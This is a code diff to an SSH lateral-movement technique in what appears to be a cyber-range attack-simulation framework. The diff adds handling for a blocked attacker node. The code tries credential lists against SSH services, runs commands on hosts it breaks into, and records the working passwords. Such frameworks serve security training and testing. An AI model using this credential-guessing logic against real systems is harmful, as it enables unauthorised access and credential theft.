@@ -11,7 +11,8 @@ from __future__ import annotations
 import time
 
 from cyberrange.attack.spec import Param, technique
-from cyberrange.attack.techniques.common import Result, conclude, parse_services
+from cyberrange.attack.techniques.common import Blocked, Result, conclude, parse_services
+from cyberrange.attack.techniques.credential import CutGuard
 from cyberrange.attack.techniques.tcp import ssh_session
 
 DEAD = ("refused", "timeout", "unreachable")
@@ -91,26 +92,35 @@ def ssh_lateral(targets: list[str], params: dict) -> Result:
         return res
     services = parse_services(targets, [port], res.log, only_listed_ports=False)
     sessions, found, compromised, dead, attempts = [], [], [], set(), 0
-    for ip, p in services:
-        for c in _order_for(ip, p, creds, reuse):
-            if attempts and pause > 0:
-                time.sleep(pause)
-            attempts += 1
-            status, fl, info = ssh_session(ip, p, c["user"], c["password"], commands,
-                                           connect_timeout, io_timeout)
-            res.flows.append(fl)
-            if status == "ok":
-                sessions.append({"target": f"{ip}:{p}", "user": c["user"],
-                                 "banner": info["banner"], "outputs": info["outputs"]})
-                found.append({"target": f"{ip}:{p}", "user": c["user"], "password": c["password"]})
-                compromised.append(ip)
-                break
-            if status in DEAD:
-                dead.add((ip, p))
-            if status != "bad":
-                res.log.append(f"{ip}:{p}: {status}; no further logins tried there")
-                break
+    guard = CutGuard(res)
+    try:
+        for ip, p in services:
+            for c in _order_for(ip, p, creds, reuse):
+                if attempts and pause > 0:
+                    time.sleep(pause)
+                attempts += 1
+                status, fl, info = ssh_session(ip, p, c["user"], c["password"], commands,
+                                               connect_timeout, io_timeout)
+                res.flows.append(fl)
+                if guard.saw(ip, p, status):
+                    dead.add((ip, p))
+                    break
+                if status == "ok":
+                    sessions.append({"target": f"{ip}:{p}", "user": c["user"],
+                                     "banner": info["banner"], "outputs": info["outputs"]})
+                    found.append({"target": f"{ip}:{p}", "user": c["user"],
+                                  "password": c["password"]})
+                    compromised.append(ip)
+                    break
+                if status in DEAD:
+                    dead.add((ip, p))
+                if status != "bad":
+                    res.log.append(f"{ip}:{p}: {status}; no further logins tried there")
+                    break
+    except Blocked as exc:          # the actor's own node stopped sending: nothing more to try
+        res.cut(exc.reason)
     res.log.append(f"{attempts} SSH logins at {len(services)} services, {len(sessions)} sessions")
     res.facts = {"compromised": list(dict.fromkeys(compromised)), "sessions": sessions,
                  "credentials": found}
-    return conclude(res, sessions, services and len(dead) == len(services))
+    return conclude(res, sessions, services and len(dead) == len(services)
+                    and "every SSH service refused or dropped the connections")
